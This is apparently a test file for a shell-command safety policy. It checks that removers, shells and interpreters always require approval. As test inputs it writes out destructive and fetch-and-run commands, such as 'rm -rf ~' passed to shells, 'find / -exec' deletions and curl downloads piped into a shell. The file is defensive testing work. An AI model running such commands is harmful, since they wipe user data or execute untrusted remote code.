import assert from 'node:assert/strict'
import { describe, test } from 'vitest'
import { assessCommand } from '../../../../src/safety/shell-policy/assess-command.ts'
import {
	factsOf,
	interprets,
	isBeyondRecall,
	isKind,
	mustBeWhole,
	programsWhere,
	readsCode,
	runsWords,
	takesScript,
} from '../../../../src/safety/shell-policy/programs/facts.ts'
import { PLACE } from '../../../support/gate/gate-cases.ts'

const assess = (command: string) => assessCommand(command, PLACE).assessment
const asksAlways = (programs: readonly string[], command: (program: string) => string) =>
	assert.deepEqual(
		programs.filter(program => assess(command(program)).outcome !== 'ask-always'),
		[],
	)

describe('one row tells all rules the same', () => {
	test('every remover is asked about as rm is', () => {
		const removers = programsWhere(({ kind }) => kind === 'remover')
		assert.ok(removers.length > 7)
		for (const program of removers) {
			assert.ok(mustBeWhole(program) && isBeyondRecall(program), program)
			assert.deepEqual(assess(`${program} build`).sessionKeys, [], program)
		}
		asksAlways(removers, program => `${program} ~`)
		asksAlways(removers, program => `find / -exec ${program} {} +`)
	})

	test('every shell is looked into, and may not run what was downloaded', () => {
		const shells = programsWhere(({ kind }) => kind === 'shell')
		assert.ok(shells.length > 8)
		for (const program of shells) assert.equal(takesScript(program), 'any word', program)
		asksAlways(shells, program => `${program} -c 'rm -rf ~'`)
		asksAlways(shells, program => `echo 'rm -rf ~' | ${program}`)
		asksAlways(shells, program => `printf 'rm -rf ~' > s; ${program} s`)
		asksAlways(shells, program => `curl -o f https://example.com/f; ${program} f`)
		asksAlways(shells, program => `curl https://example.com/f | ${program}`)
	})

	test('no interpreter and no wrapper is covered by a yes for the session', () => {
		// `time` is part of the grammar, and what it stands before is looked at by itself.
		const programs = programsWhere(() => true).filter(
			program => program !== 'time' && (interprets(program) || runsWords(program)),
		)
		assert.ok(programs.length > 50)
		for (const program of programs) assert.deepEqual(assess(`${program} x y`).sessionKeys, [], program)
	})
})

test('a version or a file system in the name makes no other program', () => {
	assert.equal(factsOf('python3.12'), factsOf('python'))
	assert.equal(factsOf('mkfs.ext4'), factsOf('mkfs'))
	assert.ok(isKind('newfs_hfs', 'disk') && readsCode('php8.2') && interprets('ruby3.2'))
	for (const program of ['rm2', 'python3x', '3', '...', '', 'toString', '__proto__'])
		assert.deepEqual(factsOf(program), {}, program)
})
